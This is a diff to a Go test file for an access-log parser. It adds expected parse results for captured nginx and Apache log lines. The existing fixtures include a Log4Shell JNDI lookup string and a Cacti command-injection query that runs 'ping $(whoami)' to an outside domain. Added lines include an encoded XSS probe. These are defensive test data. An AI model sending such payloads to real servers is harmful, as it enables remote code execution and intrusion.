@@ -136,6 +136,34 @@ func TestParseTextFormats(t *testing.T) {
 		{"aws_alb.log", 5, textWant{"2023-04-26T19:53:47.8094Z", "192.168.1.14", "GET", "/.awscfg", "", 404, "", 0, 167, "${jndi:ldap://${java:version}.domain/a}", "api.example.com", "", detectors.FormatAWSALB}},
 		{"aws_alb.log", 7, textWant{"2023-04-26T19:53:56.715663Z", "192.168.1.16", "GET", "/remote_agent.php", "action=polldata&host_id=1&local_data_ids[]=3&poller_id=;ping%20%24%28whoami%29.test.com", 404, "", 0, 167,
 			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36", "cacti.example.com", "", detectors.FormatAWSALB}},
+		// Captured from nginx 1.22.1, Apache 2.4.71 (Debian 12 packages) on loopback with the
+		// configs in testdata/capture/ (TZ=Europe/Paris, so +0100 becomes UTC). nginx "main":
+		// a real X-Forwarded-For chain, a Basic-auth user on a 401, \x22 kept as written,
+		// an IPv6 peer with an IPv6 hop, and $remote_user set without auth_basic on the location.
+		{"nginx_main_captured.log", 1, textWant{"2026-11-22T04:47:01Z", "127.0.0.1", "GET", "/api/items", "page=2&sort=desc", 200, "", 0, 13, "curl/7.88.1", "", "", detectors.FormatNginxMain}},
+		{"nginx_main_captured.log", 2, textWant{"2026-11-22T04:47:01Z", "127.0.0.1", "POST", "/api/v1/login", "next=%2Fhome", 401, "alice", 0, 179,
+			"python-requests/2.31.0", "", "203.0.113.9, 198.51.100.23", detectors.FormatNginxMain}},
+		{"nginx_main_captured.log", 3, textWant{"2026-11-22T04:47:02Z", "127.0.0.1", "GET", "/wp-login.php", "", 404, "", 0, 153, `Mozilla/5.0 \x22quoted\x22 bot`, "", "", detectors.FormatNginxMain}},
+		{"nginx_main_captured.log", 4, textWant{"2026-11-22T04:47:03Z", "::1", "GET", "/search", "q=%22%3E%3Cscript%3E", 404, "", 0, 153,
+			"curl/7.88.1", "", "2001:db8::7, 198.51.100.24", detectors.FormatNginxMain}},
+		{"nginx_main_captured.log", 5, textWant{"2026-11-22T04:47:20Z", "127.0.0.1", "GET", "/download/report.bin", "v=3", 200, "alice", 0, 150000, "Wget/1.21.3", "", "192.0.2.33", detectors.FormatNginxMain}},
+		// The same requests in nginx's predefined combined format.
+		{"nginx_combined_captured.log", 1, textWant{"2026-11-22T04:47:01Z", "127.0.0.1", "POST", "/api/v1/login", "next=%2Fhome", 401, "alice", 0, 179,
+			"python-requests/2.31.0", "", "", detectors.FormatNginxCombined}},
+		{"nginx_combined_captured.log", 2, textWant{"2026-11-22T04:47:02Z", "127.0.0.1", "GET", "/wp-login.php", "", 404, "", 0, 153, `Mozilla/5.0 \x22quoted\x22 bot`, "", "", detectors.FormatNginxCombined}},
+		{"nginx_combined_captured.log", 3, textWant{"2026-11-22T04:47:03Z", "::1", "GET", "/search", "q=%22%3E%3Cscript%3E", 404, "", 0, 153, "curl/7.88.1", "", "", detectors.FormatNginxCombined}},
+		// Apache combined + %D (microseconds): Apache writes a quote as \" and logs the
+		// supplied Basic-auth user on the 401.
+		{"apache_combined_D_captured.log", 1, textWant{"2026-11-22T04:47:33Z", "127.0.0.1", "GET", "/api/items", "page=2&sort=desc", 200, "", 1894 * time.Microsecond, 13,
+			"curl/7.88.1", "", "", detectors.FormatApacheCombined}},
+		{"apache_combined_D_captured.log", 2, textWant{"2026-11-22T04:47:33Z", "127.0.0.1", "POST", "/login", "next=%2Fhome", 401, "alice", 1797 * time.Microsecond, 421,
+			"python-requests/2.31.0", "", "", detectors.FormatApacheCombined}},
+		{"apache_combined_D_captured.log", 3, textWant{"2026-11-22T04:47:33Z", "127.0.0.1", "POST", "/login", "", 200, "alice", 439 * time.Microsecond, 8,
+			"curl/7.88.1", "", "", detectors.FormatApacheCombined}},
+		{"apache_combined_D_captured.log", 4, textWant{"2026-11-22T04:47:33Z", "127.0.0.1", "GET", "/wp-login.php", "", 404, "", 138 * time.Microsecond, 236,
+			`Mozilla/5.0 \"quoted\" bot`, "", "", detectors.FormatApacheCombined}},
+		{"apache_combined_D_captured.log", 5, textWant{"2026-11-22T04:47:33Z", "::1", "GET", "/search", "q=%22%3E%3Cscript%3E", 404, "", 100 * time.Microsecond, 236,
+			"curl/7.88.1", "", "", detectors.FormatApacheCombined}},
 	}
 	p := textParser(t, Options{})
 	files := map[string][]string{}
@@ -198,6 +226,9 @@ func TestParseTextFiles(t *testing.T) {
 		{"haproxy.log", detectors.FormatHAProxy, ""},
 		{"envoy_text.log", detectors.FormatEnvoyText, ""},
 		{"aws_alb.log", detectors.FormatAWSALB, ""},
+		{"nginx_main_captured.log", detectors.FormatNginxMain, ""},
+		{"nginx_combined_captured.log", detectors.FormatNginxCombined, ""},
+		{"apache_combined_D_captured.log", detectors.FormatApacheCombined, ""},
 		{"haproxy_badreq.log", 0, ReasonBadField},
 		{"haproxy_not_http.log", 0, ReasonBadField},
 		// A custom log-format (a host field before the timers, "-" for the
